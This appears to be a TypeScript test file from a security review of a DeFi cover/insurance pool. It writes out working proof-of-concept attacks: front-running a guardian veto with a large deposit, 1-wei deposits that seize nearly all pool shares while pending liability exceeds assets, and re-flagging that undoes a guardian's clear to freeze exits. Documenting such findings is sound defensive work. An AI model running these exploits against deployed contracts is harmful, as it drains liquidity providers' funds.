import type { Address } from "viem";
import { describe, expect, it } from "vitest";
import { encodeDepegParams, encodeTvlDropParams, encodeTvlDropProof } from "../../workers/chain/triggerParams";
import { DAY, USD, useWorld, type World } from "./helpers/fixture";

// Review 2: net-of-pending share pricing turns a pending incident into a free option on its veto.

let w: World;
const E8 = 10n ** 8n;
const COOLDOWN = 7n * DAY;

useWorld(async (world) => {
  w = world;
}, { leverageBps: 20_000, cooldownSeconds: Number(COOLDOWN) });

const addr = (x: { account?: { address: Address } }) => x.account!.address;

/** A TVL product with `cover` sold and an incident fired (pending, 1-day veto window). */
async function firedIncident(cover: bigint) {
  const feed = await w.newFeed(8, 100n * E8);
  const params = encodeTvlDropParams({ feed: feed.address, dropBps: 3000, windowSeconds: 86_400, maxAgeSeconds: 400 * 86_400 });
  const { productId } = await w.listProduct(w.core.tvlDrop.address, params, { veto: Number(DAY), cap: 10_000_000n * USD });
  await w.deposit(w.acc.lp, 100_000n * USD);
  await w.buy(w.acc.alice, await w.quote(productId, { amount: cover, premium: 1n * USD }));
  await w.advance(60);
  await w.send(feed.write.updateAnswer([100n * E8]));
  const from = await feed.read.latestRound();
  await w.advance(600);
  await w.send(feed.write.updateAnswer([40n * E8])); // an oracle glitch the guardian will veto
  await w.send(w.core.market.write.fire([productId, encodeTvlDropProof(1n, from, from + 1n)]));
  return productId;
}

describe("review2: deposits during a pending incident", () => {
  it("front-running a veto with a big deposit is risk-free and takes most of the restored liability from the incumbent", async () => {
    await firedIncident(60_000n * USD);
    expect(await w.core.pool.read.pendingLiability()).toBe(60_000n * USD);
    const D = 1_000_000n * USD;
    await w.deposit(w.acc.attacker, D); // bought at the net price (40k for 100k of assets)
    const shares = await w.core.pool.read.balanceOf([addr(w.acc.attacker)]);

    // Branch 1: the incident is confirmed. The attacker loses nothing.
    const snap = await w.snapshot();
    await w.advance(DAY);
    await w.send(w.core.market.write.confirmIncident([1n]));
    const ifConfirmed = await w.core.pool.read.exitValue([shares]);
    expect(ifConfirmed).toBeGreaterThan(D - 2n * USD);
    await w.revert(snap);

    // Branch 2: the guardian vetoes (the attacker deposited in the block before the veto).
    await w.send(w.as(w.core.market, w.acc.guardian).write.vetoIncident([1n]));
    await w.send(w.as(w.core.pool, w.acc.attacker).write.requestRedeem([shares]));
    const id = await w.core.pool.read.lastRequestId();
    await w.advance(COOLDOWN);
    const before = await w.balance(addr(w.acc.attacker));
    await w.send(w.as(w.core.pool, w.acc.attacker).write.completeRedeem([id, shares, addr(w.acc.attacker)]));
    const profit = (await w.balance(addr(w.acc.attacker))) - before - D;
    // 60k × 1M / 1.04M ≈ 57.7k of the incumbent's capital, for no risk.
    expect(profit).toBeGreaterThan(57_000n * USD);
    const lpValue = await w.core.pool.read.exitValue([await w.core.pool.read.balanceOf([addr(w.acc.lp)])]);
    expect(lpValue).toBeLessThan(43_000n * USD); // deposited 100k, incident vetoed, left with ~42k
  });

  it("pending ≥ assets (leverage 2×): 1-wei deposits each double the attacker's shares; 30 wei buys ~all of the pool", async () => {
    await firedIncident(150_000n * USD); // pending 150k > assets 100k: net assets 0
    expect(await w.core.pool.read.previewDeposit([1n])).toBeGreaterThan(await w.core.pool.read.totalSupply());
    await w.fund(w.acc.attacker, 100n);
    const pool = w.as(w.core.pool, w.acc.attacker);
    for (let i = 0; i < 30; i++) await w.send(pool.write.deposit([1n, addr(w.acc.attacker)]));
    const mine = await w.core.pool.read.balanceOf([addr(w.acc.attacker)]);
    const supply = await w.core.pool.read.totalSupply();
    expect((mine * 1_000_000_000n) / supply).toBeGreaterThan(999_999_990n); // > 99.999999 % of the shares for 30 wei
    await w.send(w.as(w.core.market, w.acc.guardian).write.vetoIncident([1n]));
    // The LP's 100,000 now belongs to the attacker.
    expect(await w.core.pool.read.exitValue([mine])).toBeGreaterThan(99_999n * USD);
    const lpValue = await w.core.pool.read.exitValue([await w.core.pool.read.balanceOf([addr(w.acc.lp)])]);
    expect(lpValue).toBeLessThan(1n * USD);
    // And it can be taken out as soon as capital is free (25k now, the rest as cover ends).
    await w.send(pool.write.requestRedeem([mine / 5n]));
    const id = await w.core.pool.read.lastRequestId();
    await w.advance(COOLDOWN);
    await w.send(pool.write.completeRedeem([id, mine / 5n, addr(w.acc.attacker)]));
    expect(await w.balance(addr(w.acc.attacker))).toBeGreaterThan(19_999n * USD);
  });
});

describe("review2: exit freeze", () => {
  it("a guardian's clearCondition is undone by anyone re-flagging in the next block", async () => {
    const feed = await w.newFeed(8, E8);
    const params = encodeDepegParams({ feed: feed.address, thresholdE18: 995n * 10n ** 15n, durationSeconds: 3600, maxAgeSeconds: 86_400 });
    const { productId } = await w.listProduct(w.core.depeg.address, params);
    await w.deposit(w.acc.lp, 100_000n * USD);
    await w.advance(2n * DAY); // stale feed
    await w.send(w.as(w.core.market, w.acc.attacker).write.flagCondition([productId]));
    await w.send(w.as(w.core.market, w.acc.guardian).write.clearCondition([productId]));
    await w.send(w.as(w.core.market, w.acc.attacker).write.flagCondition([productId]));
    expect(await w.core.pool.read.exitFreezes()).toBe(1n);
  });
});
